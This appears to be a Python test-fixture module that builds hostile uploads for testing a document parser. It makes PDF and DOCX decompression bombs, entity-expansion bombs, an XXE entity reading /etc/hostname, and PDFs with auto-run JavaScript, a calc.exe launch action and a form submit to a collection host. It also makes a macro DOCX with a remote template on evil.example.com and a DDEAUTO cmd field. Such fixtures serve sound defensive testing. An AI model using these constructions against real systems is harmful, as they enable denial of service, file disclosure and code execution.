"""Files that a careless or hostile person might upload, made at test time: each is small until it is opened."""

from __future__ import annotations

import io
import zlib
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfgen.canvas import Canvas

from tests.documents import CONTENT_TYPES, W_NAMESPACE, archive, changed, docx, paragraph, relationships, text_pdf

MIB = 1024 * 1024
SCRIPT = "app.alert('read me');"


def encrypted_pdf(user: str = "secret") -> bytes:
    """Needs `user` to be opened; with "" only the owner's password is set, and anybody can read it."""
    copy = io.BytesIO()
    with pikepdf.open(io.BytesIO(text_pdf())) as pdf:
        pdf.save(copy, encryption=pikepdf.Encryption(user=user, owner="owner", R=6))
    return copy.getvalue()


def broken_table_pdf() -> bytes:
    """The cross-reference table points to the wrong places; the objects are all there."""
    pdf = text_pdf()
    start = pdf.index(b"\nxref")
    return pdf[:start] + pdf[start:].replace(b" 00000 n", b" 00007 n").replace(b"startxref", b"startxref\n99", 1)


def truncated_pdf() -> bytes:
    pdf = text_pdf(3)
    return pdf[: len(pdf) // 3]


def long_pdf(pages: int) -> bytes:
    copy = io.BytesIO()
    canvas = Canvas(copy, invariant=True)
    for number in range(pages):
        canvas.drawString(72, 700, f"Page {number}")
        canvas.showPage()
    canvas.save()
    return copy.getvalue()


def no_pages_pdf() -> bytes:
    copy = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.save(copy, static_id=True)
    return copy.getvalue()


@cache
def deflated(megabytes: int, layers: int = 1) -> bytes:
    engine = zlib.compressobj(9)
    block = b"(x) Tj\n" * (MIB // 7)
    packed = b"".join(engine.compress(block) for _ in range(megabytes)) + engine.flush()
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    return packed


def bomb_pdf(megabytes: int = 400, layers: int = 1) -> bytes:
    """A page whose content inflates to so many megabytes."""
    filters = Name.FlateDecode if layers == 1 else Array([Name.FlateDecode] * layers)

    def put(pdf: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(pdf, b"")
        stream.write(deflated(megabytes, layers), filter=filters)
        pdf.pages[0].obj.Contents = stream

    with pikepdf.open(io.BytesIO(text_pdf())) as pdf:
        put(pdf)
        copy = io.BytesIO()
        pdf.save(copy, static_id=True, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return copy.getvalue()


def hidden_bomb_pdf(megabytes: int = 400) -> bytes:
    """A bomb that a search for deflated streams does not see, since it is written in hexadecimal digits."""
    with pikepdf.open(io.BytesIO(text_pdf())) as pdf:
        stream = pikepdf.Stream(pdf, b"")
        stream.write(deflated(megabytes).hex().encode() + b">", filter=Array([Name.ASCIIHexDecode, Name.FlateDecode]))
        pdf.pages[0].obj.Contents = stream
        copy = io.BytesIO()
        pdf.save(copy, static_id=True, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return copy.getvalue()


def laughing_pdf(levels: int = 12) -> bytes:
    """A page that draws a form ten times, which draws another ten times, and so on."""
    with pikepdf.open(io.BytesIO(text_pdf())) as pdf:
        form = pikepdf.Stream(pdf, b"BT ET")
        for _ in range(levels):
            inner, form = pdf.make_indirect(form), pikepdf.Stream(pdf, b"/F Do " * 10)
            form.Resources = Dictionary(XObject=Dictionary(F=inner))
            inner.Type, inner.Subtype, inner.BBox = Name.XObject, Name.Form, Array([0, 0, 612, 792])
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 612, 792])
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(F=pdf.make_indirect(form)))
        pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, b"/F Do")
        copy = io.BytesIO()
        pdf.save(copy, static_id=True)
    return copy.getvalue()


def repeating_pdf(pages: int = 20, times: int = 500, size: int = 1_000_000) -> bytes:
    """Pages that all draw one stream of so many bytes, again and again."""
    with pikepdf.open(io.BytesIO(text_pdf(pages))) as pdf:
        stream = pdf.make_indirect(pikepdf.Stream(pdf, b"0 0 m " * (size // 6)))
        for page in pdf.pages:
            page.obj.Contents = Array([stream] * times)
        copy = io.BytesIO()
        pdf.save(copy, static_id=True)
    return copy.getvalue()


def deep_pdf(depth: int = 50_000) -> bytes:
    """An object nested so deep that a parser that calls itself falls over."""
    nested = b"[" * depth + b"]" * depth
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Deep " + nested + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n"
    )


def boxed_pdf(*box: float) -> bytes:
    """A page of prose whose MediaBox is as given."""

    def put(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.MediaBox = Array([pikepdf.Object.parse(str(side).encode()) for side in box])

    return changed(text_pdf(), put)


def active_pdf() -> bytes:
    """Scripts on opening, by name, on a page and on a field; a launch action; a file; a form in XFA; links."""

    def put(pdf: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))
        pdf.attachments["payload.exe"] = b"MZ not a program"
        pdf.Root.OpenAction = pdf.make_indirect(script)
        pdf.Root.Names.JavaScript = Dictionary(
            Names=Array([String("start"), Dictionary(S=Name.JavaScript, JS=String(SCRIPT))])
        )
        field = pdf.make_indirect(
            Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(SCRIPT))))
        )
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<xdp/>"))
        page = pdf.pages[0].obj
        page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
        launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
        submit = Dictionary(S=Name.SubmitForm, F=String("https://collect.example.com"))
        page.Annots = Array(
            [_link(pdf, launch), _link(pdf, submit), _link(pdf, Dictionary(S=Name.URI, URI=String("file:///etc/x")))]
        )

    return changed(text_pdf(), put)


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 200, 720]), A=action))


def linked_pdf() -> bytes:
    """A page with an ordinary link to the web, as many agreements have."""

    def put(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Annots = Array([_link(pdf, Dictionary(S=Name.URI, URI=String("https://www.example.com")))])

    return changed(text_pdf(), put)


def bomb_docx(megabytes: int = 400) -> bytes:
    return docx(paragraph("Agreement"), word__media__x_dot_bin=b"\x00" * (megabytes * MIB))


def many_entries_docx(entries: int = 3000) -> bytes:
    return archive({"word/document.xml": "<x/>"} | {f"word/media/{number}": b"x" for number in range(entries)})


def laughing_docx() -> bytes:
    """A document of XML entities that expand to billions of letters."""
    entities = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghij", "bcdefghijk", strict=True)
    )
    document = (
        f'<?xml version="1.0"?><!DOCTYPE d [{entities}]><w:document xmlns:w="{W_NAMESPACE}"><w:body>'
        "<w:p><w:r><w:t>&k;</w:t></w:r></w:p></w:body></w:document>"
    )
    return docx("", word__document_dot_xml=document)


def fetching_docx() -> bytes:
    """A document that asks its parser for a file of the machine."""
    document = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        f'<w:document xmlns:w="{W_NAMESPACE}"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
    )
    return docx("", word__document_dot_xml=document)


def macro_docx() -> bytes:
    """Macros, an embedded object, a template from the outside, a link, and a field that starts a program."""
    links = relationships(
        ("styles", "styles.xml"),
        ("vbaProject", "vbaProject.bin"),
        ("oleObject", "embeddings/oleObject1.bin"),
        outside=[("attachedTemplate", "https://evil.example.com/t.dotm"), ("hyperlink", "https://www.example.com")],
    )
    body = (
        paragraph("Placeholder Coding LLC signs here.")
        + '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>our terms</w:t></w:r></w:hyperlink></w:p>'
        + '<w:p><w:r><w:object r:id="rId3"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p>'
    )
    types = CONTENT_TYPES.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return docx(
        body,
        **{"[Content_Types]_dot_xml": types},
        word___rels__document_dot_xml_dot_rels=links,
        word__vbaProject_dot_bin=b"Sub AutoOpen()",
        word__embeddings__oleObject1_dot_bin=b"object",
    )
